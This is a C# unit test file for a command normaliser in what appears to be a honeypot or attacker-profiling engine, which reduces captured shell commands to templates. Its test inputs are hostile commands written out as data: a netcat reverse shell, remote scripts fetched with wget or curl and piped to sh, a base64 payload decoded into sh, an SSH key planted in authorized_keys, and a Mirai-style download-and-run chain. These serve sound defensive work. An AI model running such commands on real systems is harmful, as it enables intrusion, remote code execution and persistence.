using Decnet.Engine.Profiler;

namespace Decnet.Tests.Profiler;

public class CommandNormaliserTests
{
    [Test]
    [Arguments("uname -a", "uname -a")]
    [Arguments("  ls \t -la \n /tmp  ", "ls -la /tmp")]
    [Arguments("", "")]
    [Arguments("   ", "")]
    [Arguments("ping -c 4 192.168.1.10", "ping -c 4 <ip>")]
    [Arguments("nc 10.0.0.1 4444 -e /bin/sh", "nc <ip> <n> -e /bin/sh")]
    [Arguments("ssh root@8.8.8.8 -p 2222", "ssh root@<ip> -p <n>")]
    [Arguments("echo 1.2.3.4.5", "echo 1.2.3.4.5")]
    [Arguments("echo 256.1.1.1", "echo 256.1.1.1")]
    [Arguments("cd /tmp; wget http://185.1.2.3/bins.sh; sh bins.sh", "cd /tmp; wget <url>; sh bins.sh")]
    [Arguments("busybox wget https://example.com:8080/x86?a=1&b=2", "busybox wget <url>&b=2")]
    [Arguments("curl -s 'ftp://user:pw@host/file' | sh", "curl -s '<url>' | sh")]
    [Arguments("echo -e '\\x41\\x4b\\x34\\x37' > /tmp/.x", "echo -e '<blob>' > /tmp/.x")]
    [Arguments("echo -e '\\x41\\x4b'", "echo -e '\\x41\\x4b'")]
    [Arguments("echo d41d8cd98f00b204e9800998ecf8427e > /tmp/h", "echo <blob> > /tmp/h")]
    [Arguments("echo c2ggLWMgJ2NkIC90bXAgfHwgY2QgL3Zhci9ydW4n | base64 -d | sh", "echo <blob> | base64 -d | sh")]
    [Arguments("echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0x+yz/Ab12 key >> .ssh/authorized_keys", "echo ssh-rsa <blob> key >> .ssh/authorized_keys")]
    [Arguments("cat /proc/cpuinfo | grep name | wc -l", "cat /proc/cpuinfo | grep name | wc -l")]
    [Arguments("ls /usr/lib/x86_64-linux-gnu", "ls /usr/lib/x86_64-linux-gnu")]
    [Arguments("cat /var/lib/Docker2Files/SomethingLonger", "cat /var/lib/Docker2Files/SomethingLonger")]
    [Arguments("cd /tmp/12345 && sleep 300", "cd /tmp/<n> && sleep 300")]
    [Arguments("echo abcdefghijklmnopqrstuvwxyzabcdefg", "echo abcdefghijklmnopqrstuvwxyzabcdefg")]
    [Arguments("kill -9 123456789012345678901234", "kill -9 <n>")]
    [Arguments("chmod 777 x; ./x 1.1.1.1", "chmod 777 x; ./x <ip>")]
    public async Task Normalises(string raw, string expected)
    {
        await Assert.That(CommandNormaliser.Normalise(raw)).IsEqualTo(expected);
    }

    [Test]
    public async Task SameToolAgainstDifferentHostsNormalisesEqual()
    {
        var a = CommandNormaliser.Normalise("cd /tmp || cd /var/run; wget http://1.2.3.4/mirai.arm7; chmod +x mirai.arm7; ./mirai.arm7 5.6.7.8 31337");
        var b = CommandNormaliser.Normalise("cd /tmp  ||  cd /var/run; wget http://99.88.77.66/mirai.arm7; chmod +x mirai.arm7; ./mirai.arm7 10.20.30.40 40000");
        await Assert.That(a).IsEqualTo(b);
        await Assert.That(a).IsEqualTo("cd /tmp || cd /var/run; wget <url>; chmod +x mirai.arm7; ./mirai.arm7 <ip> <n>");
    }
}
